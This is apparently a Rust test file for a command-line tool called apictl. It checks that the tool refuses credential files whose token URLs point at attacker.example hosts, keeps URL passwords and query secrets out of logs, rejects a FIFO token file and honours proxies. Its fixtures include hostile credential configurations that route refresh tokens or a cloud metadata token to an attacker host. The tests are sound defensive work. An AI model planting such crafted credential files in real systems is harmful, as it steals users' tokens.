//! Issue 48: credential files and URLs apictl did not write. A file decides where secrets go only
//! among Google's hosts; no URL's user info or query value reaches a message or a `-vvv` log line;
//! a subject token file that never ends is refused at once; the subject token URL is fetched
//! through the standard proxy variables.
//!
//! **The attacker's host names.** Every hostile URL names a host under `attacker.example`:
//! `.example` is reserved for documentation (RFC 2606), so it is nobody's and certainly not
//! Google's. To make such a name reach a loopback "attacker" without DNS, each run sets
//! `HTTPS_PROXY` and `HTTP_PROXY` to the attacker (a `test_support::hostile::HostileServer`):
//! apictl's clients honour them, so any byte sent towards an `attacker.example` host would arrive
//! there as a connection (a `CONNECT`). `NO_PROXY=127.0.0.1` keeps the fakes direct. A control
//! run with the named opt-out (`APICTL_ALLOW_NON_GOOGLE_TOKEN_HOSTS=1`) shows the attacker does
//! receive the secret's request when the check is not applied, so "0 connections" is a
//! measurement, not a test that cannot fail.

use crate::common;

use std::time::{Duration, Instant};

use common::{Apictl, Run};
use sa360_video_fakes::FakeServices;
use test_support::hostile::{Answer, HostileServer};

/// What the hostile files carry and no output may show.
const SECRETS: [&str; 6] = [
    "SECRET-REFRESH-TOKEN-7781",
    "HUNTER2-URL-PASSWORD",
    "alice-url-user",
    "APIKEY-SECRET-123",
    "IMP-PASSWORD-XYZ",
    "QUERY-SECRET-VALUE",
];

#[track_caller]
fn assert_no_secret(run: &Run) {
    for secret in SECRETS {
        assert!(
            !run.stdout.contains(secret) && !run.stderr.contains(secret),
            "{secret} printed:\n{}\n{}",
            run.stdout,
            run.stderr
        );
    }
}

/// An `external_account` file reading its subject token from `source`.
fn external(token_url: &str, source: serde_json::Value) -> serde_json::Value {
    serde_json::json!({
        "type": "external_account",
        "audience": "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/ci",
        "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
        "token_url": token_url,
        "credential_source": source,
    })
}

/// Writes `json` as `name` in the test's directory and runs `apictl -vvv auth status` with it
/// as GOOGLE_APPLICATION_CREDENTIALS (and `extra`), with a 5 s timeout per request.
async fn status_with(
    apictl: &Apictl,
    name: &str,
    json: &serde_json::Value,
    extra: &[(&str, &str)],
) -> Run {
    let path = apictl.dir().join(name);
    std::fs::write(&path, json.to_string()).expect("written");
    let mut env = vec![("GOOGLE_APPLICATION_CREDENTIALS", path.to_str().unwrap())];
    env.extend_from_slice(extra);
    apictl
        .run_with(&["-vvv", "auth", "status", "--timeout", "5"], &env)
        .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_files_are_refused_and_the_attacker_receives_nothing() {
    let services = FakeServices::start_default().await.expect("fakes");
    let attacker = HostileServer::start(Answer::Html);
    // Pointed at the fakes (loopback opened): what is refused is refused for its host alone.
    let apictl = Apictl::with_fakes(&services)
        .without("SEARCH_ADS_TOKEN")
        .env("HTTPS_PROXY", attacker.url())
        .env("HTTP_PROXY", attacker.url())
        .env("NO_PROXY", "127.0.0.1");
    let subject = apictl.dir().join("subject-token");
    std::fs::write(&subject, "SECRET-REFRESH-TOKEN-7781").expect("written");
    let source: serde_json::Value =
        serde_json::from_str(&services.search_ads.authorized_user_json()).expect("JSON");
    let google_sts = "https://sts.googleapis.com/v1/token";
    let evil_iam = "https://iamcredentials.attacker.example/v1/projects/-/serviceAccounts/a@p.iam.gserviceaccount.com:generateAccessToken";
    let mut impersonating = external(google_sts, serde_json::json!({"file": subject}));
    impersonating["service_account_impersonation_url"] = evil_iam.into();
    let mut evil_source = source.clone();
    evil_source["token_uri"] = "https://oauth2.attacker.example/token".into();
    let files = [
        (
            "token_url",
            external(
                "https://sts.attacker.example/v1/token",
                serde_json::json!({"file": subject}),
            ),
        ),
        (
            "token_url",
            external(
                "https://sts.attacker.example/v1/token",
                serde_json::json!({
                    "url": "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
                    "headers": {"Metadata-Flavor": "Google"},
                }),
            ),
        ),
        ("service_account_impersonation_url", impersonating),
        (
            "service_account_impersonation_url",
            serde_json::json!({
                "type": "impersonated_service_account",
                "service_account_impersonation_url": evil_iam,
                "source_credentials": source,
            }),
        ),
        (
            "token_uri",
            serde_json::json!({
                "type": "impersonated_service_account",
                "service_account_impersonation_url": "https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/a@p.iam.gserviceaccount.com:generateAccessToken",
                "source_credentials": evil_source,
            }),
        ),
    ];
    for (i, (field, json)) in files.iter().enumerate() {
        let run = status_with(&apictl, &format!("hostile-{i}.json"), json, &[]).await;
        assert_eq!(
            attacker.connections(),
            0,
            "{i}: the attacker received bytes"
        );
        run.expect(5);
        assert!(
            run.stderr.contains(&format!("the file's {field}"))
                && run.stderr.contains("is refused")
                && run.stderr.contains("attacker.example")
                && run.stderr.contains("APICTL_ALLOW_NON_GOOGLE_TOKEN_HOSTS=1"),
            "{i}: {}",
            run.stderr
        );
        assert_no_secret(&run);
    }

    // The control: with the named opt-out the same file does send there.
    let run = status_with(
        &apictl,
        "opted-out.json",
        &files[0].1,
        &[("APICTL_ALLOW_NON_GOOGLE_TOKEN_HOSTS", "1")],
    )
    .await;
    assert_ne!(run.code, 0, "{}", run.stderr);
    assert!(
        attacker.connections() > 0,
        "the proxy route reaches the attacker"
    );
    assert_no_secret(&run);
}

/// A file naming the fake's (loopback) STS is used when apictl points at loopback, and refused
/// before anything is sent when it does not: the file alone never opens loopback.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_loopback_token_url_needs_apictl_pointed_at_loopback() {
    let services = FakeServices::start_default().await.expect("fakes");
    let fake = &services.search_ads;
    let apictl = Apictl::with_fakes(&services).without("SEARCH_ADS_TOKEN");
    let subject = apictl.dir().join("subject-token");
    std::fs::write(&subject, "eyJhbGciOiJSUzI1NiJ9.k8s.sig").expect("written");
    let json = external(&fake.sts_token_url(), serde_json::json!({"file": subject}));
    status_with(&apictl, "local.json", &json, &[])
        .await
        .expect(0);
    let before = fake.federation_counts();
    let elsewhere = apictl
        .without("SEARCH_ADS_URL")
        .without("SEARCH_ADS_REPORTING_URL");
    let run = status_with(&elsewhere, "local.json", &json, &[]).await;
    run.expect(5);
    assert!(run.stderr.contains("is on loopback"), "{}", run.stderr);
    assert!(
        run.stderr.contains("--url or --reporting-url on 127.0.0.1"),
        "{}",
        run.stderr
    );
    assert_eq!(fake.federation_counts(), before, "nothing reached the STS");
}

/// Every URL a credentials file or the endpoint settings take, with user info and a query value:
/// neither shows in any message or `-vvv` log line (the host does).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_url_secret_reaches_a_message_or_a_log_line() {
    let services = FakeServices::start_default().await.expect("fakes");
    let apictl = Apictl::with_fakes(&services).without("SEARCH_ADS_TOKEN");
    let closed = test_support::ClosedPort::reserve().expect("a port");
    let secret_url = |host: &str, path: &str| {
        format!("https://alice-url-user:HUNTER2-URL-PASSWORD@{host}{path}?key=APIKEY-SECRET-123")
    };
    let user = |token_uri: String| {
        serde_json::json!({"type": "authorized_user", "client_id": "c", "client_secret": "s",
            "refresh_token": "SECRET-REFRESH-TOKEN-7781", "token_uri": token_uri})
    };
    let key: serde_json::Value =
        serde_json::from_str(&services.search_ads.service_account_key_json()).expect("JSON");
    let mut key_file = key.clone();
    key_file["token_uri"] = secret_url("oauth2.googleapis.com", "/token").into();
    let mut impersonating = external(
        "https://sts.googleapis.com/v1/token",
        serde_json::json!({"file": "/x"}),
    );
    impersonating["service_account_impersonation_url"] = 
        "https://admin:IMP-PASSWORD-XYZ@iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/a@b:generateAccessToken?key=APIKEY-SECRET-123"
    .into();
    let files = [
        user(secret_url("oauth2.googleapis.com", "/token")),
        key_file,
        external(
            &secret_url("sts.googleapis.com", "/v1/token"),
            serde_json::json!({"file": "/x"}),
        ),
        external(
            "https://sts.googleapis.com/v1/token",
            serde_json::json!({"url": secret_url("idp.example", "/token")}),
        ),
        // Allowed (a query is how GitHub's and Azure's token URLs work), and unreachable: the
        // error and the logs name the URL.
        external(
            &services.search_ads.sts_token_url(),
            serde_json::json!({"url": format!("http://127.0.0.1:{}/subject?audience=QUERY-SECRET-VALUE", closed.port())}),
        ),
        impersonating,
        serde_json::json!({
            "type": "impersonated_service_account",
            "service_account_impersonation_url": "https://admin:IMP-PASSWORD-XYZ@iamcredentials.googleapis.com/v1/x:generateAccessToken",
            "source_credentials": user("https://oauth2.googleapis.com/token".into()),
        }),
    ];
    for (i, json) in files.iter().enumerate() {
        let run = status_with(&apictl, &format!("secret-url-{i}.json"), json, &[]).await;
        assert_ne!(run.code, 0, "{}", run.stderr);
        assert!(
            run.stderr.contains(".googleapis.com")
                || run.stderr.contains("idp.example")
                || run.stderr.contains("127.0.0.1"),
            "{i}: the host shows: {}",
            run.stderr
        );
        assert_no_secret(&run);
    }
    // The endpoint settings (`--url`, `--reporting-url` and their variables).
    for (name, url) in [
        (
            "SEARCH_ADS_URL",
            secret_url("doubleclicksearch.googleapis.com", "/doubleclicksearch/v2"),
        ),
        (
            "SEARCH_ADS_REPORTING_URL",
            secret_url("searchads360.googleapis.com", "/v0"),
        ),
        (
            "SEARCH_ADS_URL",
            "http://alice-url-user:HUNTER2-URL-PASSWORD@exa mple/?key=APIKEY-SECRET-123".to_owned(),
        ),
    ] {
        let run = apictl
            .run_with(
                &["-vvv", "ads", "customers", "--token", "t"],
                &[(name, url.as_str())],
            )
            .await;
        assert_ne!(run.code, 0, "{}", run.stderr);
        assert_no_secret(&run);
    }
}

/// A FIFO as the subject token file hung `apictl auth status` for ever (a blocking open and read).
/// Now it is refused before a byte is read, well within the deadline, naming the file.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fifo_as_the_subject_token_file_ends_with_a_clear_error() {
    let services = FakeServices::start_default().await.expect("fakes");
    let apictl = Apictl::with_fakes(&services).without("SEARCH_ADS_TOKEN");
    let fifo = apictl.dir().join("subject-fifo");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .expect("mkfifo runs");
    assert!(made.success());
    let path = apictl.dir().join("fifo.json");
    let json = external(
        &services.search_ads.sts_token_url(),
        serde_json::json!({"file": fifo}),
    );
    std::fs::write(&path, json.to_string()).expect("written");
    let deadline = Duration::from_secs(20);
    let mut child = apictl
        .command(&["auth", "status", "--timeout", "20"])
        .env("GOOGLE_APPLICATION_CREDENTIALS", &path)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn apictl");
    let started = Instant::now();
    let ended = tokio::task::spawn_blocking(move || {
        // Past the deadline (and a margin), the process is killed and the test fails.
        while started.elapsed() < deadline + Duration::from_secs(10) {
            if child.try_wait().expect("wait").is_some() {
                return Some(child.wait_with_output().expect("output"));
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        let _ = child.kill();
        let _ = child.wait();
        None
    })
    .await
    .expect("join")
    .expect("apictl auth status ended");
    assert!(started.elapsed() < deadline, "took {:?}", started.elapsed());
    let stderr = String::from_utf8_lossy(&ended.stderr);
    assert_eq!(ended.status.code(), Some(5), "{stderr}");
    assert!(
        stderr.contains("a FIFO") && stderr.contains(&fifo.display().to_string()),
        "{stderr}"
    );
}

/// The subject token URL is fetched through `HTTP_PROXY` like every other request: a workload
/// behind a proxy signs in. The origin named in the file does not exist; only the proxy answers.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_subject_token_url_goes_through_the_proxy() {
    let services = FakeServices::start_default().await.expect("fakes");
    let (proxy, head) =
        test_support::loopback::one_shot_http(200, "eyJhbGciOiJSUzI1NiJ9.proxied.sig")
            .await
            .expect("a proxy");
    let closed = test_support::ClosedPort::reserve().expect("a port");
    let apictl = Apictl::with_fakes(&services)
        .without("SEARCH_ADS_TOKEN")
        .env("HTTP_PROXY", format!("http://{proxy}"))
        .env("NO_PROXY", "127.0.0.1");
    let subject = format!(
        "http://localhost:{}/subject?audience=QUERY-SECRET-VALUE",
        closed.port()
    );
    let json = external(
        &services.search_ads.sts_token_url(),
        serde_json::json!({"url": subject}),
    );
    let before = services.search_ads.federation_counts();
    let run = status_with(&apictl, "proxied.json", &json, &[]).await;
    run.expect(0);
    let head = head.await.expect("the proxy was asked");
    assert!(head.starts_with(&format!("GET {subject} ")), "{head}");
    assert_eq!(services.search_ads.federation_counts().0, before.0 + 1);
    assert_no_secret(&run);
}
